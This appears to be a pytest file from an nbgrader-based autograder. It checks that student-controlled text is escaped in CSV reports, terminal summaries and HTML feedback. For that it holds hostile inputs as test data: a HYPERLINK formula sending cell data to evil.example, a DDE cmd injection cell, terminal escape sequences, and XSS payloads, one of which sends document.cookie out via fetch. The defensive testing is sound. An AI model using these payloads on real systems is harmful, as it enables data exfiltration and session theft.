"""What a student names (a class in an error message, a markdown cell, a folder) lands escaped: in report.csv and
grades.csv as a cell no spreadsheet runs, in the printed summary without control bytes, in the feedback page as text."""

import csv
from pathlib import Path

import nbformat
import nbgrader
import pytest
from nbconvert import HTMLExporter

from autograder.grading.escape import spreadsheet_cell, terminal_line
from autograder.grading.nbgrader_steps.feedback import TEMPLATES, ReadableFeedback, as_plain_text
from autograder.grading.report import Outcome, summary, write_report
from autograder.grading.status import Status

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b0m"


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1"])
def test_a_cell_that_would_start_a_formula_starts_with_a_quote(text):
    cell = spreadsheet_cell(text)
    assert cell.startswith("'") and "\t" not in cell and "\r" not in cell and "\n" not in cell


def test_plain_text_is_kept_and_control_bytes_become_spaces():
    reason = "'basic-block-identity' (AssertionError: no ReLU after the addition)"
    assert spreadsheet_cell(reason) == reason
    assert spreadsheet_cell("a\x00b\x1bc") == "a b c"
    assert terminal_line(ESCAPES).isprintable()
    assert terminal_line("evil\u202egnp.exe\u2028next\u200bline") == "evil gnp.exe next line"  # bidi, separators


def test_report_csv_and_the_summary_carry_no_formula_and_no_control_byte(tmp_path):
    outcome = Outcome("=cmd|' /C calc'!A0", Status.TAMPERED, f"{FORMULA} {ESCAPES}", 3, 20, review=FORMULA)
    write_report(tmp_path, "05_residual_blocks", [outcome])
    with (tmp_path / "report.csv").open() as handle:
        row = next(csv.DictReader(handle))
    assert all(not value.startswith(("=", "+", "-", "@")) for value in row.values())
    assert all(value.isprintable() for value in row.values())
    printed = summary("05_residual_blocks", 1, [outcome], 1.0)
    assert all(line.isprintable() for line in printed.splitlines())


def test_a_students_markdown_and_names_reach_the_feedback_page_as_text():
    lesson_text = "Residual learning: $H(x) = F(x) + x$."
    script = "<script>fetch('/api/contents?token=' + document.cookie)</script> ```` <img src=x onerror=alert(1)>"
    grade = {"grade": True, "solution": False, "grade_id": "x<b>y</b>", "points": 1, "score": 0}
    notebook = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell(lesson_text),
        nbformat.v4.new_markdown_cell(script),
        nbformat.v4.new_raw_cell("<script>alert('raw')</script>"),
        nbformat.v4.new_code_cell("check(B)", metadata={"nbgrader": grade}, outputs=[nbformat.v4.new_output(
            "stream", name="stdout", text="Checking B on cpu\n  FAIL  <script>alert('check')</script>\n")]),
    ])
    feedback = ReadableFeedback()
    feedback._lesson = {lesson_text}
    for index, cell in enumerate(notebook.cells):
        feedback.preprocess_cell(cell, {}, index)
    assert "<math" in notebook.cells[0].source and notebook.cells[1].source == as_plain_text(script)
    bootstrap = Path(nbgrader.__file__).parent / "server_extensions/formgrader/static/node_modules/bootstrap/dist/css"
    exporter = HTMLExporter(template_name="course_feedback", extra_template_basedirs=[str(TEMPLATES)],
                            extra_template_paths=[str(bootstrap)], sanitize_html=True)
    page, _ = exporter.from_notebook_node(notebook, resources={"nbgrader": {
        "notebook": "<i>04</i>", "score": 0, "max_score": 1, "late_penalty": 0}})
    for unsafe in ("<script>fetch", "<script>alert", "onerror=alert(1)>", "<b>y</b>", "<i>04</i>"):
        assert unsafe not in page, unsafe
